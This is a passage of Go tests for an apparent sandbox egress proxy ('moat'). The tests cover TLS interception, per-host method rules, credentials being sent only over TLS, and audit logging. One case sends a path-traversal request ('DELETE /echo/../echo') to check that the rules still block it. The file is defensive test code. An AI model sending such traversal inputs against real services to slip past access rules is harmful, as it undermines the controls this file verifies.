		if _, err := c.Get("https://" + host + "/echo"); err == nil {
			t.Errorf("%s: reached without inspection", host)
		}
	}
	if f.up.hits.Load() != 0 {
		t.Error("the upstream was reached")
	}
	recs := f.done(t, c)
	if len(recs) != 2 {
		t.Fatalf("audit = %+v", recs)
	}
	for _, r := range recs {
		if r.Verdict != "deny" || !strings.Contains(string(r.Reason), "needs TLS inspection") {
			t.Errorf("audit %+v", r)
		}
	}
}

func TestInspectWithoutCASplices(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test"}, func(o *Options) { o.Certs = nil; o.Inspect = true })
	c := f.client(t, true, f.up.roots)
	if resp, _ := get(t, c, "https://api.test/echo"); resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	f.done(t, c)
}

func TestRequestRulesOverTLS(t *testing.T) {
	f := newMITMFixture(t, []string{"GET,HEAD rules.test/*", "api.test"}, nil)
	both := f.roots.Clone()
	both.AddCert(f.up.ca.Cert())
	c := f.client(t, true, both)
	for _, tc := range []struct {
		method, host, path string
		want               int
	}{
		{"GET", "rules.test", "/echo", 200},
		{"POST", "rules.test", "/echo", 403},
		{"DELETE", "rules.test", "/echo/../echo", 403},
		{"POST", "api.test", "/echo", 200}, // no rules: spliced
	} {
		req, _ := http.NewRequest(tc.method, "https://"+tc.host+tc.path, strings.NewReader("x"))
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Errorf("%s %s%s: got %d %q, want %d", tc.method, tc.host, tc.path, resp.StatusCode, body, tc.want)
		}
		if tc.want == 403 && (!strings.Contains(string(body), `blocked by project rule "GET,HEAD rules.test/*"`) ||
			!strings.Contains(string(body), "moat network allow sb '"+tc.method+" rules.test/echo'")) {
			t.Errorf("%s: page %q", tc.method, body)
		}
	}
	if got := f.up.hits.Load(); got != 2 {
		t.Errorf("upstream hit %d times, want 2", got)
	}
	var denied []string
	for _, r := range byProto(f.done(t, c), "http") {
		if r.Verdict == "deny" {
			denied = append(denied, r.Method+" "+r.Path+" "+r.Rule)
		}
	}
	if want := []string{"POST /echo GET,HEAD rules.test/*", "DELETE /echo/../echo GET,HEAD rules.test/*"}; !slices.Equal(denied, want) {
		t.Errorf("denials %q, want %q", denied, want)
	}
}

func TestPlainHTTPToBoundOrRuledHost(t *testing.T) {
	f := newMITMFixture(t, []string{"api.test", "GET rules.test/*"}, func(o *Options) { o.Credentials = testSecrets(t, false) })
	httpUpstream(t, f.up.addr+":80")
	before := hits.Load()
	for _, tc := range []struct {
		head   string
		want   int
		reason string
	}{
		// A bound host gets nothing in the clear (threat model 25).
		{"GET /echo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer x\r\n\r\n", 403, "only sent over TLS"},
		{"POST /echo HTTP/1.1\r\nHost: rules.test\r\nContent-Length: 0\r\n\r\n", 403, `rules.test with POST /echo (port 80): blocked by project rule "GET rules.test/*".
To allow it, run on the host:

    moat network allow sb 'POST rules.test/echo'`},
		{"GET http://rules.test/echo?q=1 HTTP/1.1\r\nHost: rules.test\r\n\r\n", 200, ""},
	} {
		c, err := f.dial("198.51.100.66:80")
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(5 * time.Second))
		io.WriteString(c, tc.head)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		c.Close()
		if resp.StatusCode != tc.want || !strings.Contains(string(body), tc.reason) {
			t.Errorf("%q: got %d %q, want %d with %q", tc.head, resp.StatusCode, body, tc.want, tc.reason)
		}
	}
	if got := hits.Load() - before; got != 1 {
		t.Errorf("upstream hit %d times, want 1", got)
	}
	// Each record is written after its answer went out, so the three can
	// land in any order: match them by content.
	recs := f.done(t)
	seen := map[string]int{}
	for _, r := range recs {
		seen[r.Name+" "+r.Method+" "+r.Path+" "+string(r.Verdict)]++
	}
	want := map[string]int{"api.test GET /echo deny": 1, "rules.test POST /echo deny": 1, "rules.test GET /echo allow": 1}
	if len(recs) != 3 || !maps.Equal(seen, want) {
		t.Errorf("audit = %+v", recs)
	}
}

// What the daemon passes in satisfies what the gate consumes.
var (
	_ Certs       = (*tlsca.CA)(nil)
	_ Credentials = (*secret.Set)(nil)
)

func TestTypedNilsMeanNone(t *testing.T) {
	g := New(Options{Certs: (*tlsca.CA)(nil), Credentials: (*secret.Set)(nil)})
	if g.m != nil || g.o.Certs != nil || g.o.Credentials != nil {
		t.Fatal("a nil CA or secret set was taken for a real one")
	}
}
